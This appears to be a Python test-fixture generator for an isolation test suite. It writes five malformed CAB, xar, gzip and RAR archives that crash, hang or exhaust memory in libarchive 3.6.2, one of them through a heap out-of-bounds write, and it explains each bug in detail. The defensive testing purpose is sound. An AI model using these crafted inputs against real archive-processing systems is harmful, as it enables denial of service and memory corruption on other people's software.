#!/usr/bin/python3
"""hostile_inputs.py - writes small inputs that crash, hang or blow up
Debian 12's libarchive (3.6.2) in-process, built here field by field
from the formats (issue 8). tests/isolation_hostile.sh scans them with
isolation on; tests/isolation.sh uses the xar.

    hostile_inputs.py DIR [NAME...]   write all (or the NAMEs) into DIR

  cab_lzx_oob.cab     heap write 32 KiB past the LZX output buffer
  cab_skip_null.cab   NULL read while skipping a member (SIGSEGV)
  xar_doublelink.xar  endless loop over a doubled hard link
  gzip_recursive.gz   gzip in gzip in gzip: stuck in archive_read_open
                      reading ahead for a 4 GiB name, memory growing
  rar_staticdata.rar  a RAR VM filter asking for 960 MiB of static data

They reach the bugs libarchive's own regression inputs of the same
names (test_read_format_*.uu, test_read_filter_gzip_recursive) reach,
fixed after 3.6.2: the CAB ones in libarchive PRs #2900 and #2919, the
gzip one by a bound on gzip header fields, the RAR one in PR #3105.
Each was checked in-process, against the unfixed library: see
doc/design.md ("Isolation").
"""
import hashlib
import os
import struct
import sys
import zlib


# ---------------------------------------------------------------- CAB
def cab(folders, files, data):
    """A cabinet: folders [(typeCompress, CFDATA count)], files [(size,
    folder, name)] laid end to end in their folder, then data, one
    bytes object per folder (its CFDATA blocks)."""
    files_at = 36 + 8 * len(folders)
    table = b"".join(struct.pack("<IIHHHH", size, 0, folder, 0x5821, 0,
                                 0x20) + name + b"\0"
                     for size, folder, name in files)
    at = files_at + len(table)
    folder_table = b""
    for (ctype, count), blob in zip(folders, data):
        folder_table += struct.pack("<IHH", at, count, ctype)
        at += len(blob)
    # signature, reserved, cbCabinet, reserved, coffFiles, reserved,
    # version 1.3, cFolders, cFiles, flags, setID, iCabinet
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, at, 0, files_at, 0,
                       3, 1, len(folders), len(files), 0, 0, 0)
    return head + folder_table + table + b"".join(data)




def cab_skip_null():
    """A stored folder that says it has two CFDATA blocks; the first
    is 64 bytes, not 32 KiB as a block before the last must be. The
    reader rejects the block after taking its sizes and checksum but
    before keeping its header image (memimage stays NULL). Skipping
    the member afterwards (archive_read_next_header) consumes the 64
    bytes and finishes the block's checksum over memimage: a read at
    address 4."""
    n = 64
    # checksum, compressed and uncompressed size, data
    block = struct.pack("<IHH", 0x1234, n, n) + b"x" * n
    return cab([(0, 2)], [(n, 0, b"a.txt")], [block])


class LzxBits:
    """LZX bits: 16-bit little-endian words, each filled from its top."""
    def __init__(self):
        self.v, self.n = 0, 0

    def put(self, value, width):
        self.v = self.v << width | value
        self.n += width

    def bytes(self):
        pad = -self.n % 16
        raw = (self.v << pad).to_bytes((self.n + pad) // 8, "big")
        return b"".join(raw[i:i + 2][::-1] for i in range(0, len(raw), 2))


def cab_lzx_oob():
    """An LZX folder whose one CFDATA block says 65,281 bytes
    uncompressed (over the 32 KiB limit) and more compressed bytes
    than there are. Reading the member fails on that block, but its
    sizes stay; the skip that follows decompresses the block's 65,281
    bytes into the 32 KiB buffer, 32 KiB past its end (libarchive
    #2919). As the rejected block's header is never consumed, the
    decoder starts on the header itself: its eight bytes are also the
    LZX stream's start (E8 translation on, a verbatim block of 65,520
    bytes), and the two sizes come out of those bits. The block's
    trees give two main symbols (a match at the last offset, short or
    long) and two lengths, so each two bits of 1 copy 257 bytes."""
    bits = LzxBits()
    bits.put(1, 1)            # E8 translation follows
    bits.put(1, 32)           # its size
    bits.put(1, 3)            # a verbatim block
    bits.put(0xFFF0, 24)      # of 65,520 bytes

    def pretree(lengths):     # the 20 four-bit lengths of a pre-tree
        for sym in range(20):
            bits.put(lengths.get(sym, 0), 4)

    def zero_runs(runs, code):   # pre-tree symbol 18 (its code): 20-51 zeros
        for n in runs:
            bits.put(*code)
            bits.put(n - 20, 5)
    # main tree, elements 0-255 (literals): none. Pre-tree: 0 "as
    # before" '0', 18 '1'
    pretree({0: 1, 18: 1})
    bits.put(0, 1)
    zero_runs((51,) * 5, (1, 1))
    # elements 256-495 (matches): 262 and 263, one bit each. Pre-tree:
    # 16 "one more than before" '0', 17 (4-19 zeros) '10', 18 '11'
    pretree({16: 1, 17: 2, 18: 2})
    bits.put(2, 2)
    bits.put(6 - 4, 4)        # 256-261
    bits.put(0, 1)            # 262
    bits.put(0, 1)            # 263
    zero_runs((51, 51, 51, 51, 28), (3, 2))
    # length tree, 249 elements: 247 and 248, one bit each
    pretree({16: 1, 18: 1})
    zero_runs((51, 51, 51, 51, 43), (1, 1))
    bits.put(0, 1)
    bits.put(0, 1)
    # main symbol 263 (repeated offset 0, length from the length
    # tree), length 248: 257 bytes, 300 times
    for _ in range(300):
        bits.put(3, 2)
    data = bits.bytes()
    csum, cb_data, cb_uncomp = struct.unpack_from("<IHH", data)
    assert cb_uncomp > 0x8000, "uncompressed size within the buffer"
    # fewer bytes than cbData: the block never ends, so its checksum
    # is never finished (that would be cab_skip_null's bug instead)
    assert len(data) - 8 < cb_data
    window_15 = 3 | 15 << 8   # LZX, 32 KiB window
    return cab([(window_15, 1)], [(0x10000, 0, b"a.bin")], [data])


# ---------------------------------------------------------------- xar
def xar_doublelink():
    """Two entries, each a hard link twice over, the second to the
    first: libarchive's xar reader loops forever on it. Header, zlib
    compressed XML table of contents, heap starting with the table's
    SHA-1."""
    entry = ('<file id="%d"><name>file%d</name>'
             '<type link="%s">hardlink</type><type link="%s">hardlink</type>'
             '<inode>7</inode><deviceno>5</deviceno><mode>0644</mode></file>')
    toc = ('<?xml version="1.0" encoding="UTF-8"?><xar><toc>'
           '<checksum style="sha1"><offset>0</offset><size>20</size>'
           '</checksum>' + entry % (1, 1, "original", "original") +
           entry % (2, 2, "1", "1") + '</toc></xar>').encode()
    z = zlib.compress(toc)
    head = struct.pack(">4sHHQQI", b"xar!", 28, 1, len(z), len(toc), 1)
    return head + z + hashlib.sha1(z).digest()


# --------------------------------------------------------------- gzip
def gz_header(flags=0):
    # magic, deflate, flags, mtime 0, extra flags, OS unknown
    return struct.pack("<2sBBIBB", b"\x1f\x8b", 8, flags, 0, 0, 255)


def gz(data):
    return (gz_header() + zlib.compress(data, 9)[2:-4] +
            struct.pack("<II", zlib.crc32(data), len(data) & 0xffffffff))


def gzip_recursive():
    """Three gzips nested; the innermost says a file name follows
    (FNAME) and then has 4 GiB of 'A' and no NUL. Opening it, libarchive
    stacks a gzip filter per level, and the innermost's bidder reads
    ahead byte by byte for the end of the name, copying an ever larger
    buffer: archive_read_open does not return, and memory grows to
    gigabytes. The 4 GiB level is made from one compressed MiB repeated
    (a full flush ends each on a byte boundary with an empty window);
    its trailer is left zero, as nothing reads that far."""
    name_len, chunk = 1 << 32, 1 << 20
    co = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    first = co.compress(gz_header(8)) + co.flush(zlib.Z_FULL_FLUSH)
    piece = co.compress(b"A" * chunk) + co.flush(zlib.Z_FULL_FLUSH)
    level1 = (gz_header() + first + piece * (name_len // chunk) +
              co.flush() + bytes(8))
    return gz(gz(level1))


# ---------------------------------------------------------------- RAR
class MsbBits:
    def __init__(self):
        self.v, self.n = 0, 0

    def put(self, value, width):
        self.v = self.v << width | value & ((1 << width) - 1)
        self.n += width

    def bytes(self):
        pad = -self.n % 8
        return (self.v << pad).to_bytes((self.n + pad) // 8, "big")


def rarvm_number(bits, v):
    for tag, width, limit in ((0, 4, 16), (1, 8, 256), (2, 16, 65536)):
        if v < limit:
            bits.put(tag, 2)
            bits.put(v, width)
            return
    bits.put(3, 2)
    bits.put(v, 32)


def rar_block(htype, flags, body):
    h = struct.pack("<BHH", htype, flags, 7 + len(body)) + body
    return struct.pack("<H", zlib.crc32(h) & 0xffff) + h


def rar_staticdata():
    """A RAR 2.9 compressed member of four bytes whose LZ stream starts
    with a filter (main symbol 257) carrying a new VM program that says
    960 MiB of static data follow. 3.6.2's compile_program allocates
    and fills that much from a 100-byte file (libarchive #3105 bounds
    it by the VM's 256 KiB memory). The filter would start past the
    member's end, so it never runs: the four literals and their CRC
    read back, and in-process the file ends CLEAN after its gigabyte."""
    static_len = 960 << 20
    prog = MsbBits()
    prog.put(1, 1)                       # static data follows
    rarvm_number(prog, static_len - 1)   # its length less one
    body = prog.bytes()
    xor = 0
    for c in body:
        xor ^= c
    code = bytes([xor]) + body           # first byte: XOR of the rest
    rec = MsbBits()
    rarvm_number(rec, 0)                 # program 0: a new one
    rarvm_number(rec, 1000)              # block start, past the end
    rarvm_number(rec, len(code))         # program length
    for c in code:
        rec.put(c, 8)
    record = rec.bytes()

    s = MsbBits()
    s.put(0, 1)                          # LZ, not PPMd
    s.put(0, 1)                          # fresh tables
    # the code-length code, two bits each: symbols 1 and 2 (add one,
    # add two), 18 and 19 (runs of zeros, 3 and 7 bits of count)
    pre = [0] * 20
    pre[1] = pre[2] = pre[18] = pre[19] = 2
    for length in pre:
        s.put(length, 4)

    def zeros(n):
        while n:
            k = min(n, 138)
            if 0 < n - k < 3:
                k -= 3
            if k >= 11:
                s.put(3, 2)
                s.put(k - 11, 7)
            else:
                s.put(2, 2)
                s.put(k - 3, 3)
            n -= k
    # 404 code lengths: in the main code 'a' one bit ('0'), 256 and
    # 257 two bits ('10', '11')
    zeros(ord("a"))
    s.put(0, 2)
    zeros(256 - ord("a") - 1)
    s.put(1, 2)
    s.put(1, 2)
    zeros(404 - 258)
    s.put(3, 2)                          # symbol 257: a filter
    assert 7 <= len(record) < 7 + 256
    s.put(0x80 | 6, 8)                   # program number follows; length
    s.put(len(record) - 7, 8)            # in the next byte, less 7
    for c in record:
        s.put(c, 8)
    data = b"aaaa"
    for _ in data:
        s.put(0, 1)                      # literal 'a'
    s.put(2, 2)                          # symbol 256: end of block,
    s.put(0, 1)                          # a new file follows,
    s.put(0, 1)                          # with the same tables
    packed = s.bytes() + bytes(16)

    name = b"a.txt"
    # packed, unpacked size, host OS, CRC, DOS time, version 2.9,
    # method normal, name length, attributes
    fh = struct.pack("<IIBIIBBHI", len(packed), len(data), 0,
                     zlib.crc32(data), 0x5a210000, 29, 0x33, len(name),
                     0x20) + name
    return (b"Rar!\x1a\x07\x00" + rar_block(0x73, 0, bytes(6)) +
            rar_block(0x74, 0x8000, fh) + packed +
            rar_block(0x7b, 0x4000, b""))


INPUTS = {
    "cab_lzx_oob.cab": cab_lzx_oob,
    "cab_skip_null.cab": cab_skip_null,
    "xar_doublelink.xar": xar_doublelink,
    "gzip_recursive.gz": gzip_recursive,
    "rar_staticdata.rar": rar_staticdata,
}


def main(argv):
    if len(argv) < 2 or any(n not in INPUTS for n in argv[2:]):
        sys.stderr.write("usage: hostile_inputs.py DIR [%s...]\n" %
                         " | ".join(INPUTS))
        return 2
    for name in argv[2:] or INPUTS:
        with open(os.path.join(argv[1], name), "wb") as f:
            f.write(INPUTS[name]())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
